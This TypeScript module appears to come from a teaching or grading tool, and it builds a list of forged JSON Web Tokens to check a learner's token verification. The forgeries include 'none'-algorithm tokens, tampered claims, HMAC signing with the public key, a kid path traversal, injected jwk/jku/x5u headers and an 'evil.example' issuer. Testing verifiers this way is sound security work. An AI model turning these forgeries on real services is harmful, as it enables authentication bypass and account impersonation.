import { createHmac, generateKeyPairSync, sign } from 'node:crypto';
import type { Target } from './attack.ts';

const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
/** A decoded part of a token. */
export const read = (text = '') => JSON.parse(Buffer.from(text, 'base64url').toString());

/** Tokens almost like this learner's, keyed by what is wrong with each. */
export async function forgedTokens(target: Target, token: string): Promise<string[]> {
  const [head, body, signature = ''] = token.split('.');
  const [header, claims] = [read(head), read(body)];
  const { keys } = await (await fetch(`${target.parent}/api/jwks.json`)).json();
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const signed = (changes: object, more: object = {}) => {
    const input = `${part({ ...header, ...changes })}.${part({ ...claims, ...more })}`;
    return `${input}.${sign('sha256', Buffer.from(input), { key: privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`;
  };
  const hmac = (secret: string, changes: object = {}) => {
    const input = `${part({ ...header, alg: 'HS256', ...changes })}.${body}`;
    return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
  };
  const own = publicKey.export({ format: 'jwk' });
  return [
    ...['none', 'None', 'NONE', 'nOnE'].map((alg) => `${part({ ...header, alg })}.${body}.`),
    `${part({ ...header, alg: 'none' })}.${body}.${signature}`,
    `${head}.${part({ ...claims, uid: 'somebody-else' })}.${signature}`,
    `${head}.${part({ ...claims, exp: claims.exp + 86_400 })}.${signature}`,
    `${head}.${body}.`,
    `${head}.${body}.${'A'.repeat(86)}`,
    `${head}.${body}.${signature.slice(0, -4)}`,
    ...['', 'secret', JSON.stringify(keys[0]), keys[0].x].map((secret) => hmac(secret)),
    hmac('secret', { kid: '../../dev/null' }),
    signed({}),
    signed({ kid: undefined }),
    signed({ kid: 'unknown' }),
    signed({ jwk: own }),
    signed({ jku: `${target.parent}/nowhere.json` }),
    signed({ x5u: `${target.parent}/nowhere.pem` }),
    signed({ crit: ['b64'], b64: false }),
    signed({ crit: ['exp'] }),
    signed({ alg: 'ES384' }),
    signed({}, { iss: 'https://evil.example' }),
    `${token}.${signature}`,
    token.split('.').slice(0, 2).join('.'),
    'null',
    '..',
  ];
}
